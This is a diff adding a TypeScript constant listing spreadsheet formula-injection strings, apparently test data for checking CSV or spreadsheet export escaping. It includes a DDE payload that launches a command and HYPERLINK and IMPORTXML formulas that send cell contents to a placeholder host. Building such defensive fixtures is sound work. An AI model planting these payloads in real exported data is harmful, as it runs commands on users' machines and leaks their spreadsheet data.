@@ -1,0 +1,20 @@
+/** What spreadsheets have been tricked with. */
+export const HOSTILE_TEXTS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1:A9)',
+  '=HYPERLINK("http://example.com?x="&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
+  '+81 90-1234-5678',
+  '  =1+1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  '\u3000=1+1',
+] as const;
